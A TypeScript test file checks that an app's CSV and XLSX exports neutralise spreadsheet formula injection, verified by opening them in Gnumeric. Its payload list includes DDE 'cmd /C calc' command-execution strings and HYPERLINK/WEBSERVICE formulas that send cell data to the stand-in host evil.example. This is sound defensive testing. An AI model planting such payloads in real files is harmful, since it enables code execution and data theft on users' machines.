import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { toCsv, type Cell } from '../../renderer/files/csv.ts'
import { toXlsx } from '../../renderer/files/xlsx.ts'

/** What begins a formula, in the ways that programs know, and what only looks so. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1;"Счёт")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '";=1+1;"',
  'да,=1+1',
  'да;=1+1',
  'да\t=1+1',
  'да"\r\n=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://evil.example")',
  '{=1+1}',
  '%=1+1',
  '|=1+1',
  '+79161234567',
  '-250,00 ₽',
]

interface Opened {
  formulas: string[]
  texts: string[]
}

/** A file as Gnumeric opens it: what it took for a formula, and what for a text or a figure. */
function opened(name: string, content: string | Uint8Array): Opened {
  const folder = mkdtempSync(join(tmpdir(), 'switchdesk-sheet-'))
  try {
    const [file, made] = [join(folder, name), join(folder, 'made.xml')]
    writeFileSync(file, content)
    execFileSync('ssconvert', ['-T', 'Gnumeric_XmlIO:sax:0', file, made], {
      env: { ...process.env, HOME: folder, LC_ALL: 'C.UTF-8' },
      stdio: 'ignore',
    })
    const cells = [
      ...readFileSync(made, 'utf8').matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/g),
    ].map(([, attributes = '', text = '']) => ({ attributes, text: unescaped(text) }))
    // Only what it took for a value has a type.
    const isValue = ({ attributes }: { attributes: string }) => attributes.includes('ValueType=')
    return {
      formulas: cells.filter((one) => !isValue(one)).map(({ text }) => text),
      texts: cells.filter(isValue).map(({ text }) => text),
    }
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const unescaped = (text: string): string =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll(/&#x([\dA-F]+);/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replaceAll('&amp;', '&')

const rows: Cell[][] = [['Текст', 'Сумма'], ...HOSTILE.map((text): Cell[] => [text, -1.5])]

describe('a saved table in a spreadsheet program', () => {
  it('is judged by one that does find formulas', () => {
    expect(opened('a.csv', 'x,=1+1\n').formulas).toEqual(['=1+1'])
  })

  it.each([';', ',', '\t'])('has no formula where it splits at «%s»', (sign) => {
    // A program that splits elsewhere sees the same as one for which the signs were exchanged.
    const table = toCsv(rows)
    const seen = sign === ';' ? table : table.replaceAll('";"', `"${sign}"`)
    expect(opened('a.csv', seen).formulas).toEqual([])
  })

  it('has none as a workbook, and every text as it was', async () => {
    const { formulas, texts } = opened('a.xlsx', await toXlsx(rows))
    expect(formulas).toEqual([])
    for (const text of HOSTILE) expect(texts).toContain(text)
  })
})
